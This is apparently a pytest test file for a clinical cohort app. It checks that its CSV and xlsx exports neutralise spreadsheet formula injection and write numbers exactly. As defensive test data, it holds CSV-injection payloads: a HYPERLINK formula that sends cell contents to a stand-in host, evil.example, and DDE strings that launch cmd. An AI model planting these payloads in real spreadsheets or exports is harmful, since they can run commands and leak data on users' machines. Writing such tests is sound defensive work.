"""No CSV or xlsx the app writes holds a text cell a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import io
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import altair as alt
import openpyxl
import pandas as pd
import pytest

from icans_core import store, template
from icans_core.ingest import load_sources
from icans_core.results import compute_results, write_results
from icans_core.spreadsheet_safe import neutralise_cell, neutralise_formulas
from tests.cohorts import copy_tables, csv_text, sources

ROOT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("value,expected", [
    ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("+IVIG", "'+IVIG"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-1.5", "-1.5"),  # a plain number is a value, not a formula
    ("+3", "+3"),
    ("-2e-3", "-2e-3"),
    ("P1", "P1"),
    ("a=b", "a=b"),  # only the first character matters
    ("", ""),
    (" =1+1", " =1+1"),  # spreadsheets do not read a formula after a leading space
])
def test_a_cell_is_neutralised_only_when_it_would_start_a_formula(value, expected):
    assert neutralise_cell(value) == expected


def test_numbers_booleans_and_missing_values_are_left_alone():
    frame = pd.DataFrame({
        "day": [-1.5, 2.0, None],
        "grade": pd.array([-1, 2, None], dtype="Int64"),
        "flag": [True, False, True],
        "text": ["=1+1", None, "-x"],
        "arrow": pd.array(["@a", "b", None], dtype="string[pyarrow]"),
        "category": pd.Categorical(["+a", "b", "+a"]),
        "mixed": [1, "=2", None],
    })
    safe = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(safe[["day", "grade", "flag"]], frame[["day", "grade", "flag"]])
    assert safe["text"].tolist() == ["'=1+1", None, "'-x"]
    assert safe["arrow"].dtype == frame["arrow"].dtype
    assert safe["arrow"].tolist()[:2] == ["'@a", "b"] and pd.isna(safe["arrow"].iloc[2])
    assert safe["category"].tolist() == ["'+a", "b", "'+a"]
    assert safe["mixed"].tolist()[:2] == [1, "'=2"]
    assert frame["text"].tolist() == ["=1+1", None, "-x"]  # a copy: the caller's frame is untouched


def test_column_names_are_neutralised_too_and_may_repeat():
    frame = pd.DataFrame([["=a", "=b"]], columns=["=x", "=x"])
    safe = neutralise_formulas(frame)
    assert list(safe.columns) == ["'=x", "'=x"]
    assert safe.iloc[0].tolist() == ["'=a", "'=b"]


# --- end to end: an upload whose ids and labels start a formula -----------------------------------------

HOSTILE_IDS = {"P1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "P2": "@SUM(1+1)*cmd|' /C calc'!A0"}
HOSTILE_GROUPS = {"Steroids + IVIG": "+IVIG", "Steroids alone": "-steroids"}


def hostile_tables() -> dict:
    """The valid test cohort, with patient ids and groups that would run as formulas in a spreadsheet."""
    tables = copy_tables()
    for name, rows in tables.items():
        for row in rows[1:]:
            row[0] = HOSTILE_IDS.get(row[0], row[0])
    for row in tables["patients"][1:]:
        row[2] = HOSTILE_GROUPS[row[2]]
    # P2 gets a severe episode too, so that episodes.csv holds both ids
    tables["toxicity"] += [[HOSTILE_IDS["P2"], "3", "", "3", "3"], [HOSTILE_IDS["P2"], "6", "", "1", "9"]]
    return tables


def raw_cells(path: Path) -> list[dict]:
    # the file as a spreadsheet reads it: text, with nothing converted
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


def check_exported(out: Path, expected: dict[str, pd.DataFrame]) -> None:
    dangerous = set(HOSTILE_IDS.values()) | set(HOSTILE_GROUPS.values())
    for name, frame in expected.items():
        for row in raw_cells(out / f"{name}.csv"):
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and cell[1:2].isalpha()), \
                    (name, column, cell)
                if cell.startswith("'"):
                    assert cell[1:] in dangerous, (name, column, cell)
    episodes = raw_cells(out / "episodes.csv")
    assert {r["patient_id"] for r in episodes} == {"'" + v for v in HOSTILE_IDS.values()}
    assert {r["group"] for r in episodes} == {"'+IVIG", "'-steroids"}
    # the numbers are the computed ones, untouched
    written = pd.read_csv(out / "episodes.csv")
    numeric = ["onset_day", "peak_grade", "resolution_day", "time_to_resolution"]
    pd.testing.assert_frame_equal(written[numeric].reset_index(drop=True),
                                  expected["episodes"][numeric].reset_index(drop=True), check_dtype=False)
    steroids = pd.read_csv(out / "steroid_exposure.csv")
    assert steroids[["steroid_days", "cumulative_dex_mg"]].to_numpy().tolist() == \
        expected["steroid_exposure"][["steroid_days", "cumulative_dex_mg"]].to_numpy().tolist()


@pytest.fixture(scope="module")
def hostile_results():
    result = load_sources(sources(hostile_tables()))
    assert result.ok, result.report.to_string()
    con = store.connect()
    store.load_cohort(con, result.cohort)
    return compute_results(con)


def test_the_results_export_neutralises_formula_ids_and_labels(tmp_path, hostile_results):
    assert len(hostile_results["episodes"]) == 2
    write_results(hostile_results, tmp_path)
    check_exported(tmp_path, hostile_results)


def test_the_command_line_export_neutralises_them_too(tmp_path, hostile_results):
    folder = tmp_path / "cohort"
    folder.mkdir()
    for name, rows in hostile_tables().items():
        (folder / f"{name}.csv").write_text(csv_text(rows))
    done = subprocess.run([sys.executable, "-m", "icans_core", "export", str(folder), "--out", str(tmp_path / "out")],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    check_exported(tmp_path / "out", hostile_results)


def test_the_validation_report_download_is_neutralised():
    tables = hostile_tables()
    tables["patients"][1][7] = "=1+1"  # last_followup_day: not a number
    result = load_sources(sources(tables))
    assert not result.ok
    cells = [r["value"] for r in csv.DictReader(io.StringIO(neutralise_formulas(result.report).to_csv(index=False)))]
    assert "'=1+1" in cells and "=1+1" not in cells


def test_the_figure_and_table_csv_downloads_are_neutralised(monkeypatch):
    from ui import figures

    offered = {}

    def download_button(label, data, **kwargs):
        offered[label] = data() if callable(data) else data

    column = SimpleNamespace(download_button=download_button)
    fake = SimpleNamespace(dataframe=lambda *a, **k: None, vega_lite_chart=lambda *a, **k: None,
                           columns=lambda spec: [column] * len(spec), download_button=download_button)
    monkeypatch.setattr(figures, "st", fake)
    frame = pd.DataFrame({"patient_id": ["=cmd|' /C calc'!A0", "P2"], "day": [-1.5, 2.0]})
    figures.show_table(frame, "hostile", key="t")
    figures.show_figure(alt.Chart(frame).mark_point().encode(x="day"), frame, "hostile", key="f")
    for label in ("Table (CSV)", "Data (CSV)"):
        rows = list(csv.DictReader(io.StringIO(offered[label])))
        assert [r["patient_id"] for r in rows] == ["'=cmd|' /C calc'!A0", "P2"], label
        assert [r["day"] for r in rows] == ["-1.5", "2"], label  # numbers exactly, whole ones as typed


def test_the_xlsx_template_never_stores_a_formula(monkeypatch):
    # openpyxl writes any text starting with "=" as a formula: a future meaning must not become one
    dictionary = template.data_dictionary()
    dictionary.loc[0, "meaning"] = "=HYPERLINK(\"http://evil.example\")"
    monkeypatch.setattr(template, "data_dictionary", lambda: dictionary)
    book = openpyxl.load_workbook(io.BytesIO(template.template_bytes()))
    cells = [c for row in book[template.DICTIONARY_SHEET].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'=HYPERLINK(\"http://evil.example\")" in [c.value for c in cells]


# --- numbers exactly as given (issue 10) -------------------------------------------------------------

@pytest.mark.parametrize("value,expected", [
    (5.0, "5"), (1000000000.25, "1000000000.25"), (1e308, "1e+308"), (-0.0, "0"), (0.0, "0"),
    (-1.5, "-1.5"), (1e-05, "1e-05"), (2.5e-300, "2.5e-300"), (12.345678901234, "12.345678901234"),
    (123456789012345.0, "123456789012345"), (float("nan"), ""), (float("inf"), ""), (float("-inf"), ""),
])
def test_a_number_is_written_as_the_shortest_text_that_reads_back_exactly(value, expected):
    from icans_core.spreadsheet_safe import exact_number

    assert exact_number(value) == expected
    if expected:
        assert float(expected) == value  # every input of up to 15 significant digits reads back the same


@pytest.mark.parametrize("value,expected", [
    (0.1 + 0.2, "0.3"), (4 / 5 * 3 / 4, "0.6"), (1 - 0.8, "0.2"), (1 / 3, "0.333333333333333"),
    (378.04449999999997, "378.0445"), (123456789012345.6, "123456789012346"),
])
def test_binary_arithmetic_noise_is_not_written(value, expected):
    from icans_core.spreadsheet_safe import exact_number

    assert exact_number(value) == expected


def test_every_csv_writer_writes_numbers_exactly():
    from icans_core.spreadsheet_safe import spreadsheet_csv

    frame = pd.DataFrame({"id": ["=1+1", "P2", "P3"], "dose": [1000000000.25, 1e308, -0.0],
                          "n": pd.array([1, None, 3], dtype="Int64")})
    assert spreadsheet_csv(frame) == "id,dose,n\n'=1+1,1000000000.25,1\nP2,1e+308,\nP3,0,3\n"
    mixed = pd.DataFrame({"value": ["P1", -0.0, 5.0, None]}, dtype=object)
    assert spreadsheet_csv(mixed) == "value\nP1\n0\n5\n\"\"\n"  # a lone empty field is quoted
